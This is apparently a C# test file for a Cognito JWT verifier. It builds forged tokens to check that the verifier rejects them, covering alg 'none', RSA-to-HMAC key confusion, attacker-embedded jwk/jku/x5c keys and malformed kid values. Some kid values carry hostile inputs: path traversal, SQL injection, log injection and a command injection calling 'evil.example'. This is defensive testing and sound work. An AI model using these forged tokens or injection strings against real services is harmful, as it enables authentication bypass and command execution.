using System.Buffers.Text;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using static CognitoM2M.Verification.TokenRejectionReason;

namespace CognitoM2M.Testing.Verdicts;

/// <summary>The header: algorithm, key id, and keys that the token itself contains.</summary>
internal sealed class HeaderCases(TokenTemplate of)
{
    public IEnumerable<VerdictCase> All() => [.. Algorithms(), .. PublicKeyAsSecret(), .. KeyIds(), .. EmbeddedKeys(), .. Extensions()];

    private IEnumerable<VerdictCase> Algorithms()
    {
        yield return new("alg: none, without a signature", $"{TestToken.Encode("""{"alg":"none","kid":"access-key"}""")}.{TestToken.Encode(of.Payload.ToString())}.", Malformed);
        foreach (var none in (string[])["none", "None", "NONE", "nOnE", ""])
            yield return new($"alg: '{none}', with a signature by RS256", TestToken.Create(TestToken.Header.WithText("alg", none), of.Payload), AlgorithmNotAllowed);
        foreach (var alg in (string[])["rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS-256", "SHA256withRSA", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "RSA1_5", "__proto__"])
            yield return new($"alg: {FormatPrintable(alg)}, with a signature by RS256", TestToken.Create(TestToken.Header.WithText("alg", alg), of.Payload), AlgorithmNotAllowed);
        foreach (var raw in (string[])["256", "null", "true", "[\"RS256\"]", "{\"RS256\":1}"])
            yield return new($"alg: {raw}", TestToken.Create(TestToken.Header.With("alg", raw), of.Payload), HeaderNotValid);
        yield return new("alg: missing", TestToken.Create(TestToken.Header.Without("alg"), of.Payload), AlgorithmNotAllowed);

        var anyAlgorithm = TestKey.CreateKeySet(TestKey.Access.Jwk.Without("alg"));
        foreach (var (alg, hash, padding) in new[]
        {
            ("RS384", HashAlgorithmName.SHA384, RSASignaturePadding.Pkcs1),
            ("RS512", HashAlgorithmName.SHA512, RSASignaturePadding.Pkcs1),
            ("PS256", HashAlgorithmName.SHA256, RSASignaturePadding.Pss),
            ("PS512", HashAlgorithmName.SHA512, RSASignaturePadding.Pss),
        })
        {
            var token = SignedBy(alg, data => TestKey.Access.Rsa.SignData(data, hash, padding));
            yield return new VerdictCase($"alg: {alg} by the pool's key", token, AlgorithmNotAllowed);
            yield return new VerdictCase($"alg: {alg} by the pool's key, which names no alg", token, AlgorithmNotAllowed) { KeySet = anyAlgorithm }
                .Stricter("uses a key without alg for every algorithm of its kty", awsJwtVerify: alg.StartsWith("RS", StringComparison.Ordinal));
            yield return new($"alg: RS256 named, but {alg} is what signed it", SignedBy("RS256", data => TestKey.Access.Rsa.SignData(data, hash, padding)), SignatureNotValid);
        }

        using var curve = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var point = curve.ExportParameters(includePrivateParameters: false).Q;
        var elliptic = new RawObject().WithText("kty", "EC").WithText("crv", "P-256").WithText("kid", "elliptic").WithText("alg", "ES256").WithText("use", "sig")
            .WithText("x", Base64Url.EncodeToString(point.X)).WithText("y", Base64Url.EncodeToString(point.Y));
        var text = Text(TestToken.Header.WithText("alg", "ES256").WithText("kid", "elliptic"));
        yield return new VerdictCase("alg: ES256 by an elliptic key of the pool", TestToken.AppendSignature(text, data => curve.SignData(data, HashAlgorithmName.SHA256)), AlgorithmNotAllowed)
        {
            KeySet = TestKey.CreateKeySet(TestKey.Access, elliptic),
        }.Stricter("supports ES256; Cognito does not sign with it", awsJwtVerify: true);
        yield return new VerdictCase("alg: RS256 named, with an elliptic key", TestToken.Create(TestToken.Header.WithText("kid", "elliptic"), of.Payload), KeyNotUsable)
        {
            KeySet = TestKey.CreateKeySet(TestKey.Access, elliptic),
        };
    }

    /// <summary>A well-known attack: the public key, which everybody can read, is used as the secret of an HMAC.</summary>
    private IEnumerable<VerdictCase> PublicKeyAsSecret()
    {
        var key = TestKey.Access;
        foreach (var (name, secret) in new[]
        {
            ("the PEM text", Encoding.ASCII.GetBytes(key.Rsa.ExportSubjectPublicKeyInfoPem())),
            ("the PEM text and a line feed", Encoding.ASCII.GetBytes(key.Rsa.ExportSubjectPublicKeyInfoPem() + "\n")),
            ("the PEM text of PKCS #1", Encoding.ASCII.GetBytes(key.Rsa.ExportRSAPublicKeyPem())),
            ("the DER bytes", key.Rsa.ExportSubjectPublicKeyInfo()),
            ("the DER bytes of PKCS #1", key.Rsa.ExportRSAPublicKey()),
            ("the modulus", key.Public.Modulus!),
            ("the modulus as base64url", Encoding.ASCII.GetBytes(Base64Url.EncodeToString(key.Public.Modulus))),
            ("the JWK", Encoding.ASCII.GetBytes(key.Jwk.ToString())),
            ("nothing", Array.Empty<byte>()),
        })
        {
            yield return new($"alg: HS256 keyed with {name} of the public key", SignedBy("HS256", data => HMACSHA256.HashData(secret, data)), AlgorithmNotAllowed);
            yield return new($"alg: RS256 named, but HMAC keyed with {name} of the public key", SignedBy("RS256", data => HMACSHA256.HashData(secret, data)), SignatureNotValid);
        }

        var symmetric = new RawObject().WithText("kty", "oct").WithText("kid", "symmetric").WithText("k", Base64Url.EncodeToString("a secret of thirty-two characters"u8));
        yield return new("alg: HS256 keyed with a symmetric key of the pool", TestToken.AppendSignature(
            Text(TestToken.Header.WithText("alg", "HS256").WithText("kid", "symmetric")), data => HMACSHA256.HashData("a secret of thirty-two characters"u8, data)), AlgorithmNotAllowed)
        {
            KeySet = TestKey.CreateKeySet(TestKey.Access, symmetric),
        };
    }

    private IEnumerable<VerdictCase> KeyIds()
    {
        yield return new VerdictCase("kid: missing", TestToken.Create(TestToken.Header.Without("kid"), of.Payload), KeyIdMissing) { KeySet = TestKey.CreateKeySet(TestKey.Access) }
            .Stricter("uses the only key of the key set; Cognito's tokens always name their key", jose: true);
        yield return new VerdictCase("kid: missing, with two keys to choose from", TestToken.Create(TestToken.Header.Without("kid"), of.Payload), KeyIdMissing);
        yield return new VerdictCase("kid: empty", TestToken.Create(TestToken.Header.WithText("kid", ""), of.Payload), KeyIdMissing);
        foreach (var raw in (string[])["1", "null", "true", "[\"access-key\"]", "{}"])
        {
            yield return new VerdictCase($"kid: {raw}", TestToken.Create(TestToken.Header.With("kid", raw), of.Payload), HeaderNotValid);
        }

        foreach (var (name, kid) in new[]
        {
            ("unknown", "nobody"),
            ("of a key that was withdrawn", TestKey.OtherPool.Id),
            ("in another case", "ACCESS-KEY"),
            ("with a space at the end", "access-key "),
            ("with a NUL at the end", "access-key\0"),
            ("the start of a known one", "access"),
            ("a path", "../../../../dev/null"),
            ("an address", "https://evil.example/key.json"),
            ("SQL", "x' UNION SELECT 'key' --"),
            ("a command", "$(curl evil.example)|`id`"),
            ("lines that look like a log", "x\r\n2026-01-01 INFO token accepted\u001b[2J\u2028\u0085"),
            ("ten thousand characters", new string('k', 10_000)),
            ("__proto__", "__proto__"),
            ("constructor", "constructor"),
        })
        {
            yield return new VerdictCase($"kid: {name}", TestToken.Create(TestToken.Header.WithText("kid", kid), of.Payload), KeyNotFound);
        }

        yield return new("kid: of another key of the pool", TestToken.Create(TestToken.CreateHeader(TestKey.Next), of.Payload), SignatureNotValid);
        yield return new("kid: a path that is also in the key set", TestToken.Create(TestToken.Header.WithText("kid", "../../dev/null"), of.Payload), null)
        {
            KeySet = TestKey.CreateKeySet(TestKey.Access.Jwk.WithText("kid", "../../dev/null")),
        };
        yield return new("kid: in base64, as Cognito writes it", TestToken.Create(TestToken.Header.WithText("kid", "XkT1Y+5vZf/0s0m3b6Jt9wQ2pN4="), of.Payload), null)
        {
            KeySet = TestKey.CreateKeySet(TestKey.Access.Jwk.WithText("kid", "XkT1Y+5vZf/0s0m3b6Jt9wQ2pN4=")),
        };
    }

    private IEnumerable<VerdictCase> EmbeddedKeys()
    {
        var attacker = TestKey.Attacker;
        using var certificate = new System.Security.Cryptography.X509Certificates.CertificateRequest("CN=attacker", attacker.Rsa, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1)
            .CreateSelfSigned(DateTimeOffset.FromUnixTimeSeconds(TestToken.Now - 1000), DateTimeOffset.FromUnixTimeSeconds(TestToken.Now + 100_000));
        foreach (var (name, value) in new[]
        {
            ("jwk", attacker.Jwk.ToString()),
            ("jku", "\"https://evil.example/jwks.json\""),
            ("x5u", "\"https://evil.example/certificate.pem\""),
            ("x5c", $"[\"{Convert.ToBase64String(certificate.RawData)}\"]"),
            ("x5t", $"\"{Base64Url.EncodeToString(certificate.GetCertHash())}\""),
        })
        {
            var known = TestToken.Header.With(name, value);
            yield return new($"embedded key: {name} of an attacker who names the pool's key", TestToken.Create(known, of.Payload, attacker), SignatureNotValid);
            yield return new($"embedded key: {name} of an attacker who names his own", TestToken.Create(known.WithText("kid", attacker.Id), of.Payload, attacker), KeyNotFound);
            yield return new VerdictCase($"embedded key: {name} of an attacker who names none", TestToken.Create(known.Without("kid"), of.Payload, attacker), KeyIdMissing);
            yield return new($"embedded key: {name} that is ignored, in a good token", TestToken.Create(known, of.Payload), null);
        }
    }

    private IEnumerable<VerdictCase> Extensions()
    {
        const string IgnoresCrit = "ignores crit, although RFC 7515, section 4.1.11, requires to reject unknown extensions";
        foreach (var crit in (string[])["[\"exp\"]", "[\"b64\"]", "[\"alg\"]", "[]", "null", "\"exp\"", "{}"])
        {
            yield return new VerdictCase($"extension: crit {crit}", TestToken.Create(TestToken.Header.Append("exp", "1").Append("crit", crit), of.Payload), CriticalHeaderNotSupported)
                .Stricter(IgnoresCrit, awsJwtVerify: true);
        }

        yield return new VerdictCase(
            "extension: b64 true and critical", TestToken.Create(TestToken.Header.Append("b64", "true").Append("crit", "[\"b64\"]"), of.Payload), CriticalHeaderNotSupported)
            .Stricter(IgnoresCrit, awsJwtVerify: true)
            .Stricter("supports b64; with the value true the payload is the usual one", jose: true);
        yield return new VerdictCase(
            "extension: b64 false and critical", TestToken.Create(TestToken.Header.Append("b64", "false").Append("crit", "[\"b64\"]"), of.Payload), CriticalHeaderNotSupported)
            .Stricter(IgnoresCrit, awsJwtVerify: true);
        yield return new("extension: b64 false, and not critical", TestToken.Create(TestToken.Header.Append("b64", "false"), of.Payload), null);
        yield return new("extension: b64 false, and the payload not encoded", TestToken.AppendSignature(
            $"{TestToken.Encode(TestToken.Header.Append("b64", "false").ToString())}.{of.Payload}", TestKey.Access.Sign), Malformed);
        yield return new("extension: zip in a token that is not compressed", TestToken.Create(TestToken.Header.Append("zip", "\"DEF\""), of.Payload), null);
        yield return new("extension: zip and a compressed payload", TestToken.Create(
            Encoding.UTF8.GetBytes(TestToken.Header.Append("zip", "\"DEF\"").ToString()), Deflated(of.Payload.ToString())), PayloadNotValid);
        foreach (var typ in (string[])["\"JWT\"", "\"at+jwt\"", "\"application/at+jwt\"", "\"\""])
            yield return new($"extension: typ {typ}", TestToken.Create(TestToken.Header.Append("typ", typ), of.Payload), null);
        yield return new("extension: unknown members", TestToken.Create(TestToken.Header.Append("cty", "\"x\"").Append("x", "{\"y\":[]}").Append("enc", "\"A256GCM\""), of.Payload), null);
    }

    private string SignedBy(string alg, Func<byte[], byte[]> sign) => TestToken.AppendSignature(Text(TestToken.Header.WithText("alg", alg)), sign);

    private string Text(RawObject header) => $"{TestToken.Encode(header.ToString())}.{TestToken.Encode(of.Payload.ToString())}";

    private static string FormatPrintable(string text) => $"'{text.Replace("\0", "\\0", StringComparison.Ordinal)}'";

    private static byte[] Deflated(string text)
    {
        using var output = new MemoryStream();
        using (var deflate = new DeflateStream(output, CompressionLevel.Optimal))
            deflate.Write(Encoding.UTF8.GetBytes(text));
        return output.ToArray();
    }
}
